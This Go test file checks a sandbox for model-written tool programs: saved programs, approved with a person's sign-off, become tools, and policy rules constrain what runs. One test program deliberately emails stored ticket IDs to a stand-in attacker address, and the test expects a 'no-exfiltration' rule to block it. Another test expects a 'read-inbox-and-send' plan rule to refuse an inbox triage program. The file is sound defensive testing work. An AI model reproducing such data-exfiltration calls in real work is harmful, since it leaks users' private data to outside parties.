package programsdemo_test

import (
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/sandcall/sandcall/bindings"
	"github.com/sandcall/sandcall/examples/demo"
	"github.com/sandcall/sandcall/examples/expense"
	"github.com/sandcall/sandcall/examples/inbox"
	programsdemo "github.com/sandcall/sandcall/examples/programs"
	"github.com/sandcall/sandcall/policy"
	"github.com/sandcall/sandcall/sandbox"
	"github.com/sandcall/sandcall/sandbox/js"
	"github.com/sandcall/sandcall/sandbox/plan"
	"github.com/sandcall/sandcall/store"
	"github.com/sandcall/sandcall/tools"
	"github.com/sandcall/sandcall/tools/programs"
)

// server is what serve assembles, in process: the demo and inbox tools,
// the example's programs, save_program, and the policy at pol.
type server struct {
	runner *bindings.Runner
	broker *bindings.Broker
	inbox  *inbox.Inbox
}

func newServer(t *testing.T, pol string) *server {
	t.Helper()
	ib := inbox.New(true)
	reg := programs.NewRegistry()
	d, finds := programs.LoadDir(reg, programs.DirConfig{Dir: programsdemo.Dir})
	for _, f := range finds {
		if f.Reason != "" {
			t.Fatalf("%s: %s", f.File, f.Reason)
		}
	}
	saved := programs.NewSaved(reg, programs.SavedConfig{Store: store.NewMemory()})
	ts := append(append(demo.Tools(), ib.Tools()...), programs.SaveTool(saved))
	cat, err := tools.NewCatalog(append(ts, d.Tools()...)...)
	if err != nil {
		t.Fatal(err)
	}
	saved.AddTo(cat)
	b, err := bindings.NewBroker(bindings.BrokerConfig{Catalog: cat, Programs: reg})
	if err != nil {
		t.Fatal(err)
	}
	if pol != "" {
		if _, err := bindings.LoadPolicyFile(pol, b, nil); err != nil {
			t.Fatal(err)
		}
	}
	r, err := bindings.NewRunner(bindings.RunnerConfig{Broker: b, Executor: js.New(js.Config{})})
	if err != nil {
		t.Fatal(err)
	}
	reg.SetRunner(r)
	return &server{runner: r, broker: b, inbox: ib}
}

func (s *server) run(t *testing.T, src string) *sandbox.Result {
	t.Helper()
	return s.runner.Run(context.Background(), bindings.RunRequest{Program: sandbox.Program{Source: src}})
}

// TestProgramsAreTools: travel_overruns answers what the expense demo's
// program answers, from code and directly; a program the model saves (a
// person approving) is a tool too.
func TestProgramsAreTools(t *testing.T) {
	s := newServer(t, "")
	want := s.run(t, expense.Program)
	res := s.run(t, `return await tools.travel_overruns({quarter: "Q3"})`)
	if !res.OK || string(res.Result) != string(want.Result) {
		t.Fatalf("from code: %s %+v\nwant %s", res.Result, res.Error, want.Result)
	}
	out, err := s.broker.CallDirect(context.Background(), bindings.LocalPrincipal, "travel_overruns", json.RawMessage(`{"quarter":"Q3"}`))
	if err != nil || string(out) != string(want.Result) {
		t.Fatalf("directly: %v", err)
	}
	approve := bindings.ApproverFunc(func(_ context.Context, req bindings.ApprovalRequest) (bool, error) {
		return strings.Contains(req.Message, "It names travel_overruns (line 1)."), nil
	})
	_, err = s.broker.Direct(context.Background(), bindings.DirectCall{Principal: bindings.LocalPrincipal, Tool: "save_program",
		Approver: approve, Args: json.RawMessage(`{"name":"overrun_count","description":"How many engineers went over their travel budget in a quarter.",
"parameters":{"type":"object","properties":{"quarter":{"type":"string"}},"required":["quarter"]},
"code":"return (await tools.travel_overruns({quarter: args.quarter})).length;"}`)})
	if err != nil {
		t.Fatal(err)
	}
	var rows []json.RawMessage
	_ = json.Unmarshal(want.Result, &rows)
	if res := s.run(t, `return await tools.overrun_count({quarter: "Q3"})`); string(res.Result) != jsonInt(len(rows)) {
		t.Fatalf("the saved program: %s %+v", res.Result, res.Error)
	}
}

func jsonInt(n int) string { b, _ := json.Marshal(n); return string(b) }

// TestPlans: the example programs' plans, and the inbox triage program
// refused before it runs under examples/policies/plans.yaml — no call made.
func TestPlans(t *testing.T) {
	for file, want := range map[string]string{
		"travel_overruns.js": "get_team_members,get_budget_by_level,get_expenses",
		"triage_new.js":      "list_messages,get_customer,create_ticket",
	} {
		src, err := os.ReadFile(programsdemo.Dir + "/" + file)
		if err != nil {
			t.Fatal(err)
		}
		p, perr := plan.Of(sandbox.Program{Source: string(src)}, nil)
		if perr != nil || strings.Join(p.Names(), ",") != want || p.Dynamic != 0 {
			t.Errorf("%s: %v %+v", file, p.Names(), perr)
		}
	}
	s := newServer(t, "../policies/plans.yaml")
	res := s.run(t, inbox.Program)
	if res.OK || res.Error.Rule != "read-inbox-and-send" || res.Calls.Total != 0 || len(s.inbox.Sent()) != 0 {
		t.Fatalf("the triage program under plans.yaml: %+v, %d calls", res.Error, res.Calls.Total)
	}
	// triage_new reads and files tickets, and sends nothing: it runs.
	if res := s.run(t, `return await tools.triage_new({})`); !res.OK {
		t.Fatalf("triage_new under plans.yaml: %+v", res.Error)
	}
	c, _ := policy.Load("../policies/plans.yaml")
	if !c.HasPlanRules() {
		t.Fatal("plans.yaml has no plan rules")
	}
}

// TestState: triage_new files each message once across runs, and the list
// it keeps carries the label of what it read: a later run that reads it
// may not mail it outside under examples/policies/flow.yaml.
func TestState(t *testing.T) {
	s := newServer(t, "../policies/flow.yaml")
	first := s.run(t, `return await tools.triage_new({})`)
	second := s.run(t, `return await tools.triage_new({})`)
	var a, b struct {
		New   []json.RawMessage `json:"new_tickets"`
		SoFar int               `json:"triaged_so_far"`
	}
	if json.Unmarshal(first.Result, &a) != nil || json.Unmarshal(second.Result, &b) != nil ||
		len(a.New) == 0 || len(b.New) != 0 || b.SoFar != a.SoFar || len(s.inbox.Tickets()) != len(a.New) {
		t.Fatalf("first %s, second %s, %d tickets", first.Result, second.Result, len(s.inbox.Tickets()))
	}
	res := s.run(t, `const ids = await state.get("triaged");
await tools.send_email({to: ["`+inbox.Attacker+`"], subject: "ids", body: JSON.stringify(ids)});
return "sent"`)
	if res.OK || res.Error.Rule != "no-exfiltration" || !strings.Contains(res.Error.Message, "state:triaged") || len(s.inbox.Sent()) != 0 {
		t.Fatalf("mailing the kept list outside: %+v", res.Error)
	}
	if res := s.run(t, `await tools.send_email({to: ["`+inbox.SupportTeam+`"], subject: "ids", body: JSON.stringify(await state.get("triaged"))}); return "sent"`); !res.OK {
		t.Fatalf("to the support team: %+v", res.Error)
	}
}
